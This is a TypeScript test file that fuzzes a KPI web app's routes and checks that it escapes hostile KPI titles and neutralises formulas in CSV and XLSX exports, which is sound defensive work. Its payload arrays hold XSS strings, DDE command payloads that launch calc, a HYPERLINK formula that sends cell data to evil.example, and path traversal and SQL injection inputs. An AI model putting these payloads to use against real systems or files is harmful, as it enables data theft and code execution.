/**
 * Hostile input on every public route (fast-check, in-process) over a store that a malicious import
 * file filled with HTML and script in KPI titles and descriptions:
 * - no route answers 5xx or shows a stack trace; API errors are JSON (UI pages may answer HTML error
 *   pages with a correct status);
 * - the hostile titles are shown escaped on every HTML page; CSV and XLSX exports neutralise cells
 *   that a spreadsheet would run as a formula (=, +, -, @).
 * The Kolada API's own path/query fuzzing is in src/http/kolada-api/fuzz.test.ts; this adds the UI,
 * /api and the admin routes, and the poisoned data.
 */
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadSettings } from '../../src/config/settings.js';
import { buildApp } from '../../src/http/app.js';
import { importFiles } from '../../src/import/import.service.js';
import { DIALECTS } from '../support/dialects.js';
import { createTempStore, type TempStore } from '../support/temp-store.js';
import { tempDir } from '../support/value-files.js';
import { kpiIds, writeMetadata, writeValues } from './synthetic-kpis.js';

const HOSTILE = [
  '<script>alert("xss-1")</script>',
  '"><img src=x onerror=alert("xss-2")>',
  "'><svg onload=alert('xss-3')>",
  '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
/** What must never appear unescaped in HTML. */
const RAW_MARKUP = [/<script>alert/i, /<img src=x/i, /<svg onload/i];
const KPIS = kpiIds(HOSTILE.length);
const title = (id: string) => HOSTILE[KPIS.indexOf(id)] ?? id;

const NASTY = [
  '',
  '..',
  '..%2F..%2Fetc%2Fpasswd',
  '%00',
  'N90000%00',
  '%zz',
  '%C3%28',
  "'%20OR%201=1%20--",
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '9'.repeat(400),
  '1e308',
  '-1',
  'NaN',
  'A'.repeat(3000),
  '%F0%9F%98%80',
  'N90000.csv',
  'N90000.xlsx.json',
  '1000.json',
  '..%5C..%5Cwin.ini',
];

const urlText = fc.oneof(
  fc.constantFrom(...NASTY),
  fc
    .string({ unit: 'binary', maxLength: 60 })
    .map((s) => encodeURIComponent(s.replace(/[\uD800-\uDFFF]/g, '?'))),
  fc
    .array(fc.integer({ min: 0, max: 255 }), { maxLength: 10 })
    .map((bytes) => bytes.map((b) => `%${b.toString(16).padStart(2, '0')}`).join('')),
  fc.bigInt({ min: -(10n ** 30n), max: 10n ** 30n }).map(String),
  fc.constantFrom(...KPIS, '1000', '1001', '0180', 'G1'),
);
const PARAMETERS = [
  'q',
  'ar',
  'ref',
  'urval',
  'kommun',
  'kon',
  'sort',
  'dir',
  'jmf',
  'kpi',
  'lang',
  'page',
  'per_page',
];
const queryString = fc
  .array(fc.tuple(fc.oneof(fc.constantFrom(...PARAMETERS), urlText), urlText), { maxLength: 5 })
  .map((pairs) => pairs.map(([k, v]) => `${k}=${v}`).join('&'));

const ROUTES = [
  '/',
  '/index.SEG',
  '/kommun/SEG',
  '/nyckeltal/SEG',
  '/jamfor',
  '/jamfor.SEG',
  '/assets/SEG',
  '/api/status',
  '/api/health',
  '/api/SEG',
  '/api/admin/sync',
  '/api/admin/SEG',
  '/v3/SEG',
  '/v3/kpi/SEG',
  '/v2/data/kpi/SEG/year/SEG',
  '/SEG',
  '/SEG/SEG',
];

/** Stack-trace shapes (V8 frames, file paths) that must never reach a client. */
const STACK = /\bat [\w.<>]+ \(|\.ts:\d+:\d+|node:internal|\/work\/|node_modules/;

const figures: string[] = [];
afterAll(() => console.log(`[reliability] ${figures.join('\n[reliability] ')}`));

for (const dialect of DIALECTS) {
  describe(`hostile input (${dialect})`, () => {
    let temp: TempStore;
    let app: FastifyInstance;
    const statuses = new Map<number, number>();

    beforeAll(async () => {
      temp = await createTempStore(dialect);
      const dir = tempDir();
      const files = [
        ...writeMetadata(dir, KPIS, title),
        writeValues(dir, 'values.ndjson', KPIS, [2022, 2023], 1),
      ];
      await importFiles(temp.store, files);
      app = await buildApp({
        store: temp.store,
        settings: loadSettings({ ETABLERA_RATE_LIMIT_MAX: '0' }, { adminToken: 'x'.repeat(32) }),
      });
    });
    afterAll(async () => {
      figures.push(
        `${dialect}: status codes seen while fuzzing: ${[...statuses]
          .sort((a, b) => a[0] - b[0])
          .map(([s, n]) => `${s}×${n}`)
          .join(', ')}`,
      );
      await app?.close();
      await temp?.destroy();
    });

    async function check(url: string) {
      const res = await app.inject({ method: 'GET', url });
      statuses.set(res.statusCode, (statuses.get(res.statusCode) ?? 0) + 1);
      if (res.statusCode >= 500) throw new Error(`${url} → ${res.statusCode} ${res.body.slice(0, 300)}`);
      const type = String(res.headers['content-type'] ?? '');
      if (/json|text|csv|javascript/.test(type) && STACK.test(res.body))
        throw new Error(`${url} → stack trace or path in the reply: ${res.body.slice(0, 300)}`);
      const api = /^\/(v2|v3|api)\//.test(url);
      if (api && res.statusCode >= 400) {
        expect(type, url).toMatch(/^application\/json/);
        const body = res.json() as { error?: unknown };
        expect(typeof body.error, url).toBe('string');
      }
      if (type.startsWith('text/html')) for (const raw of RAW_MARKUP) expect(res.body, url).not.toMatch(raw);
      return res;
    }

    it('answers every fuzzed route without a 5xx, a stack trace or unescaped markup', async () => {
      let runs = 0;
      await fc.assert(
        fc.asyncProperty(
          fc.constantFrom(...ROUTES),
          fc.array(urlText, { minLength: 2, maxLength: 2 }),
          fc.option(queryString, { nil: undefined }),
          async (route, segments, query) => {
            runs++;
            let i = 0;
            const path = route.replace(/SEG/g, () => segments[i++] ?? '');
            await check(query === undefined ? path : `${path}?${query}`);
          },
        ),
        { numRuns: 500 },
      );
      for (const route of ROUTES)
        for (const nasty of NASTY) {
          runs++;
          await check(route.replace(/SEG/g, nasty));
        }
      figures.push(`${dialect}: ${runs} fuzzed requests over ${ROUTES.length} route forms`);
    });

    it('shows hostile KPI titles and descriptions escaped on every page', async () => {
      const pages = [
        '/',
        '/?q=%3Cscript',
        ...KPIS.map((k) => `/nyckeltal/${k}`),
        ...KPIS.map((k) => `/nyckeltal/${k}?ar=2022&kommun=1000`),
        '/kommun/1000',
        `/kommun/1000?urval=${KPIS.join(',')}`,
        `/jamfor?kommun=1000,1001&kpi=${KPIS.join(',')}`,
      ];
      let escapedSeen = 0;
      for (const url of pages) {
        const res = await check(url);
        if (res.statusCode !== 200) continue;
        expect(res.headers['content-type'], url).toMatch(/^text\/html/);
        // Every script the page loads comes from a file; none is inline.
        for (const tag of res.body.match(/<script\b[^>]*>/g) ?? []) expect(tag, url).toMatch(/\bsrc=/);
        if (/&lt;(script>alert|script&gt;alert|img src=x|svg onload)/.test(res.body)) escapedSeen++;
      }
      figures.push(
        `${dialect}: ${pages.length} pages checked for escaping; ${escapedSeen} showed a hostile title (escaped)`,
      );
      // The KPI pages name their KPI, so the escaped markup must be visible there.
      expect(escapedSeen).toBeGreaterThanOrEqual(2);
    });

    it('neutralises formula cells in CSV and XLSX exports', async () => {
      const exports = [
        ...KPIS.flatMap((k) => [`/nyckeltal/${k}.csv`, `/nyckeltal/${k}.xlsx`]),
        '/kommun/1000.csv',
        '/kommun/1000.xlsx',
        `/jamfor.csv?kommun=1000,1001&kpi=${KPIS.join(',')}`,
        `/jamfor.xlsx?kommun=1000,1001&kpi=${KPIS.join(',')}`,
      ];
      let cells = 0;
      let hostileCells = 0;
      let files = 0;
      for (const url of exports) {
        const res = await app.inject({ url });
        if (res.statusCode !== 200) continue;
        files++;
        const texts: string[] = [];
        if (url.includes('.csv')) {
          for (const line of res.body.replace(/^\uFEFF/, '').split(/\r\n/))
            for (const m of line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)) {
              const raw = m[1] ?? '';
              texts.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
            }
        } else {
          const book = new ExcelJS.Workbook();
          await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
          book.eachSheet((sheet) =>
            sheet.eachRow((row) =>
              row.eachCell((cell) => {
                expect(cell.type, `${url} ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
                if (typeof cell.value === 'string') texts.push(cell.value);
              }),
            ),
          );
        }
        for (const text of texts) {
          cells++;
          if (HOSTILE.some((h) => text.includes(h.slice(0, 12)))) hostileCells++;
          // Numbers may be negative; any other text starting like a formula is a hole.
          if (/^[=+\-@]/.test(text)) expect(text, url).toMatch(/^-?\d+(\.\d+)?$/);
        }
      }
      figures.push(
        `${dialect}: ${files} exports (CSV, XLSX), ${cells} cells checked, ${hostileCells} carried hostile text, 0 formulas`,
      );
      expect(files).toBeGreaterThanOrEqual(KPIS.length * 2);
      expect(hostileCells).toBeGreaterThan(0);
    });
  });
}
